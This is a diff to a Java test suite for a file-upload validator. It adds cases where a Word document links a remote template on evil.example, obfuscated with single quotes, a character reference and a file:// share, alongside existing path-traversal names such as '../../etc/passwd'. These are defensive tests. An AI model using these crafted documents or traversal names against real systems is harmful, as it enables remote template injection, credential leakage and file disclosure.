@@ -113,6 +113,18 @@ class UploadTests {
                 new Bad("路.docx", UploadTests::walking, "files.refused.broken"),
                 new Bad("实.docx", UploadTests::withEntities, "files.refused.entities"),
                 new Bad("模.docx", UploadTests::withRemoteTemplate, "files.refused.remote-template"),
+                new Bad(
+                        "单引号模.docx",
+                        () -> withTemplate("Target='https://evil.example/t.dotm'"),
+                        "files.refused.remote-template"),
+                new Bad(
+                        "字符引用模.docx",
+                        () -> withTemplate("Target=\"&#104;ttps://evil.example/t.dotm\""),
+                        "files.refused.remote-template"),
+                new Bad(
+                        "共享模.docx",
+                        () -> withTemplate("Target = \"file://evil.example/t.dotm\""),
+                        "files.refused.remote-template"),
                 new Bad("稿.rtf", () -> latin("{\\rtf1 x}"), "files.refused.unknown"),
                 new Bad("../../etc/passwd", () -> latin("x"), "files.name.path"),
                 new Bad("..\\a.txt", () -> latin("x"), "files.name.path"),
@@ -442,11 +454,17 @@ class UploadTests {
     }
 
     private static byte[] withRemoteTemplate() {
+        return withTemplate("Target=\"https://evil.example/t.dotm\"");
+    }
+
+    private static byte[] withTemplate(String target) {
         return wordWith(
                 Map.of(
                         "word/_rels/settings.xml.rels",
                         latin(
-                                "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")));
+                                "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
+                                        + target
+                                        + " TargetMode=\"External\"/></Relationships>")));
     }
 
     /** So many bytes, without holding them. */
